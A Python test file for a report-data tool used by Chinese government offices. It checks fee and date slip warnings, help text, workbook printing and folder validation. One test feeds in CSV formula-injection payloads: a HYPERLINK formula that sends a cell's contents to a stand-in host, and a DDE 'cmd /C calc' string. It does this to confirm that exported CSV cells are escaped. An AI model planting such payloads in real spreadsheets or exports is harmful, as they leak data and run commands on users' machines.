"""A clerk's first day: the slips the checks catch, the help that is not cut, the workbook that prints, and CSV
files Excel never runs as formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path

import pytest
from conftest import soffice_convert
from synthetic import synthetic_values

from generator import load, validate
from generator.cli.main import cli
from generator.format import schema
from generator.format.cells import parse_body_kind
from generator.workbook.csvfile import long_csv
from generator.workbook.writer import write_workbook

FEE = "t2.art20_8.admin_fees.amount_wan_yuan"


@pytest.fixture
def check(sample_values, write_data):
    def run(changes: dict[str, object], previous: dict[str, object] | None = None):
        values = {**sample_values, **changes}
        data = load(write_data(values, "this.csv"))
        old = None
        if previous is not None:
            old = load(write_data({**sample_values, "meta.year": "2022", **previous}, "last.csv"))
        return validate(data, old)

    return run


def codes(report, code: str) -> list[tuple[str, str]]:
    return [(f.variant, f.key) for f in report.findings if f.code == code]


@pytest.mark.parametrize(
    ("body", "kind"),
    [("孟州市人民政府", "政府"), ("某某县教育局", "部门"), ("某某区人民政府", "政府"), ("交通运输局", "部门")],
)
def test_yuan_typed_as_wan_yuan_warns_for_a_county_or_a_department(check, body, kind):
    report = check({FEE: "1253372", "meta.body": body, "meta.body_kind": kind})
    assert codes(report, "W-fee") == [("magnitude", FEE)]
    message = next(f.message for f in report.findings if f.code == "W-fee")
    assert message.endswith(
        f"超过{kind}一年收费的合理上限（约 {'10' if kind == '部门' or '县' in body or '区' in body else '100'} 亿元）：是否把“元”当成了“万元”填写？"
    )


def test_a_province_s_large_fee_is_not_a_slip(check):
    assert codes(check({FEE: "1253372", "meta.body": "某某省财政厅", "meta.body_kind": "部门"}), "W-fee") == []
    assert codes(check({FEE: "85000", "meta.body": "孟州市人民政府"}), "W-fee") == []


def test_a_fee_a_thousand_times_last_year_s_warns_even_when_small(check):
    report = check({FEE: "12.5"}, previous={FEE: "0.0125"})
    assert codes(report, "W-fee") == [("previous", FEE)]
    assert "是上年 0.0125 万元的一千倍以上" in next(f.message for f in report.findings if f.code == "W-fee")
    assert codes(check({FEE: "12.5"}, previous={FEE: "11.3"}), "W-fee") == []


def test_narrative_naming_last_year_is_a_warning_naming_the_paragraph(check, sample_values):
    first = sample_values["narrative.overview.on_request"].splitlines()[0]
    text = f"{first}\n2022年，全市共受理政府信息公开申请120件。"
    report = check({"narrative.overview.on_request": text})
    found = [f for f in report.findings if f.variant == "other_year"]
    assert [(f.code, f.key) for f in found] == [("W-text", "narrative.overview.on_request")]
    assert (
        "「总体情况·依申请公开」第 2 段写的是「2022年，全市共受理政府信息公开申请120件。」，但报告年度为 2023 年"
        in found[0].message
    )


@pytest.mark.parametrize(
    "text",
    [
        "较2022年增长12%。",
        "2024年，我市将继续深化政务公开。",
        "统计期限为2023年1月1日至12月31日。",
        "本年度工作有序推进。",
    ],
)
def test_comparisons_plans_and_this_year_s_period_are_not_slips(check, text):
    assert [f for f in check({"narrative.problems": text}).findings if f.variant == "other_year"] == []


def test_last_year_s_period_in_the_preface_is_a_slip(check):
    report = check({"narrative.preface": "本报告所列数据的统计期限自2022年1月1日起至2022年12月31日止。"})
    assert [(f.code, f.key) for f in report.findings if f.variant == "other_year"] == [("W-text", "narrative.preface")]


@pytest.mark.parametrize(
    ("date", "kind", "variant"),
    [
        ("2023-01-20", "政府", "issue_early"),
        ("2024-05-10", "政府", "issue_late"),
        ("2024-02-20", "部门", "issue_late"),
        ("2024-03-20", "政府", None),
        ("二〇二四年一月二十日", "部门", None),
    ],
)
def test_a_publication_date_outside_the_next_year_s_first_months_warns(check, date, kind, variant):
    report = check({"meta.issue_date": date, "meta.body_kind": kind})
    found = [f.variant for f in report.findings if f.key == "meta.issue_date"]
    assert found == ([variant] if variant else [])


def test_dates_written_in_chinese_numerals_are_read(sample_values, write_data):
    sample_values["meta.issue_date"] = "二〇二四年一月二十日"
    for name in ("d.csv", "d.xlsx"):
        assert load(write_data(sample_values, name)).issue_date == dt.date(2024, 1, 20)


@pytest.mark.parametrize(
    ("typed", "kind"),
    [
        ("局", "department"),
        ("委", "department"),
        ("办", "department"),
        ("县交通运输局", "department"),
        ("人民政府", "government"),
        ("镇", "government"),
        ("部门", "department"),
        ("政府", "government"),
    ],
)
def test_office_words_in_the_body_kind_are_understood(check, typed, kind):
    report = check({"meta.body_kind": typed})
    assert not [f for f in report.findings if f.key == "meta.body_kind"]
    assert parse_body_kind(typed) == kind


def test_help_lines_are_whole(run):
    """No summary or option help is cut short with "..." at any width click chooses."""
    pages = [run("--help").stdout] + [run(name, "--help").stdout for name in cli.commands]
    for page in pages:
        for line in page.splitlines()[1:]:
            assert not line.rstrip().endswith(("...", "…")), line
    listing = "".join(run("--help").stdout.split())  # a summary wider than the console is wrapped, never cut
    for name, command in cli.commands.items():
        assert "".join(command.get_short_help_str(limit=1000).split()) in listing, name
    render_help = "".join(run("render", "--help").stdout.split())
    assert "<数据文件名>.docx与.html（及.pdf）" in render_help


def test_every_sheet_of_the_fill_in_workbook_prints(tmp_path):
    """Landscape, one page wide, title rows repeated on every page."""
    import openpyxl

    path = tmp_path / "blank.xlsx"
    path.write_bytes(write_workbook({}))
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        assert sheet.page_setup.orientation == "landscape", sheet.title
        assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4), sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0), sheet.title
        assert sheet.print_title_rows, sheet.title
        assert sheet.print_area, sheet.title
    heading_rows = schema.GRID_FIRST_ROW + schema.grids()["t3"].head_rows - 1
    assert workbook["表三"].print_title_rows == f"$1:${heading_rows}"  # title and column headings


HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")'


def _cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_formula_as_a_body_name_never_starts_a_cell_of_any_csv_written(run, tmp_path):
    values = synthetic_values(3)
    values["meta.body"] = HOSTILE
    (tmp_path / "a.csv").write_bytes(long_csv(values))
    old = synthetic_values(4, year=2022)
    old["meta.body"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    (tmp_path / "old.csv").write_bytes(long_csv(old))
    written = {}
    assert run("batch", "a.csv", "old.csv", "-o", "out").exit_code in (0, 1)
    written["batch summary"] = (tmp_path / "out" / "校验汇总.csv").read_bytes()
    assert run("diff", "old.csv", "a.csv", "--format", "csv", "-o", "diff.csv").exit_code in (0, 1)
    written["diff"] = (tmp_path / "diff.csv").read_bytes()
    written["schema"] = run("schema", "--format", "csv").stdout.encode("utf-8")
    page = tmp_path / "page.txt"
    page.write_text(f"{HOSTILE}2023年政府信息公开工作年度报告\n一、总体情况\n全年工作有序。\n", encoding="utf-8")
    assert run("import", "page.txt", "-o", "imported.csv").exit_code in (0, 1)
    written["import"] = (tmp_path / "imported.csv").read_bytes()
    written["long format"] = long_csv(values)
    for what, content in written.items():
        for cell in _cells(content):
            signed_number = re.fullmatch(r"[+-][0-9][0-9.,]*%?", cell)  # "+223", "-44.4%": Excel's numbers
            assert signed_number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
    assert f"'{HOSTILE}" in _cells(written["batch summary"])  # kept, as text Excel shows


def test_the_long_format_reads_back_what_the_guard_wrote(tmp_path):
    values = synthetic_values(5)
    values["meta.body"] = HOSTILE
    (tmp_path / "a.csv").write_bytes(long_csv(values))
    assert load(tmp_path / "a.csv").body == HOSTILE


def test_the_fill_in_workbook_prints_landscape_with_headings_on_every_page(tmp_path):
    """LibreOffice prints it: every page A4 landscape, each table on one page, 正文's headings repeated."""
    import pdfplumber

    path = tmp_path / "blank.xlsx"
    path.write_bytes(write_workbook({"meta.body": "某某县人民政府", "meta.year": "2024"}))
    with pdfplumber.open(soffice_convert(path, "pdf", tmp_path / "pdf")) as pdf:
        pages = [(page.width, page.height, page.extract_text() or "") for page in pdf.pages]
    assert all(round(width) == 842 and round(height) == 595 for width, height, _ in pages)  # A4 landscape, pt
    starts = [text.split("\n", 1)[0] for _, _, text in pages]
    for heading in (schema.HEADINGS["t2"], schema.HEADINGS["t3"], schema.HEADINGS["t4"]):
        assert sum(start.startswith(heading) for start in starts) == 1  # one page each: one page wide and tall
    narrative_pages = [text for _, _, text in pages if "narrative." in text]
    assert len(narrative_pages) >= 2 and all(
        text.startswith("项目 键（勿改） 内容 填写提示") for text in narrative_pages
    )


def test_validate_checks_a_folder_of_a_thousand_files_in_one_command(run, tmp_path):
    folder = tmp_path / "各单位"
    folder.mkdir()
    for seed in range(998):
        (folder / f"b{seed:04d}.csv").write_bytes(long_csv(synthetic_values(seed)))
    broken = synthetic_values(2000)
    broken["t4.review.total"] = ""
    (folder / "broken.csv").write_bytes(long_csv(broken))
    (folder / "not-a-workbook.xlsx").write_text("这不是工作簿", encoding="utf-8")
    (folder / "~$b0001.xlsx").write_bytes(b"lock")

    result = run("validate", folder, "--format", "json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert {k: v for k, v in report.items() if k != "files"} == {
        "file_count": 1000,
        "valid_count": 998,
        "invalid_count": 1,
        "unreadable_count": 1,
        "valid": False,
    }
    by_name = {Path(entry["source"]).name: entry for entry in report["files"]}
    assert by_name["b0007.csv"] == validate(load(folder / "b0007.csv")).to_dict()
    assert ("E-cell", "t4.review.total") in [(f["code"], f["key"]) for f in by_name["broken.csv"]["findings"]]
    assert by_name["not-a-workbook.xlsx"]["cannot_run"].startswith("not-a-workbook.xlsx：")

    text = run("validate", folder / "b000*.csv", folder / "broken.csv")
    assert text.exit_code == 1
    assert text.stdout.splitlines()[-1] == "共 11 个文件：10 个通过，1 个未通过，0 个无法读取。"


def test_validate_of_a_folder_names_each_file_by_its_path(run, tmp_path):
    """Units send files of the same name, kept in a folder each: the summary line says which one failed."""
    broken = synthetic_values(6)
    broken["t4.review.total"] = ""
    for unit, values in (("甲镇", synthetic_values(5)), ("乙镇", broken)):
        (tmp_path / "乡镇" / unit).mkdir(parents=True)
        (tmp_path / "乡镇" / unit / "数据.csv").write_bytes(long_csv(values))
    (tmp_path / "乡镇" / "坏.xlsx").write_text("这不是工作簿", encoding="utf-8")

    result = run("validate", "乡镇")
    assert result.exit_code == 1
    summaries = [line for line in result.stdout.splitlines() if not line.startswith("[错误")]
    assert summaries == [
        f"{Path('乡镇', '乙镇', '数据.csv')}：校验未通过，1 个错误，0 个警告。",
        f"[无法读取] {Path('乡镇', '坏.xlsx')}：不是有效的 Excel 工作簿（.xlsx），无法打开（不是 zip 压缩格式）。",
        f"{Path('乡镇', '甲镇', '数据.csv')}：校验通过，0 个错误，0 个警告。",
        "共 3 个文件：1 个通过，1 个未通过，1 个无法读取。",
    ]


def test_validate_of_one_file_keeps_its_json_shape(run, tmp_path):
    (tmp_path / "a.csv").write_bytes(long_csv(synthetic_values(1)))
    result = run("validate", "a.csv", "--format", "json")
    assert json.loads(result.stdout) == validate(load(tmp_path / "a.csv")).to_dict()
    assert run("validate", "a.csv", "a.csv", "--previous", "a.csv").exit_code == 2
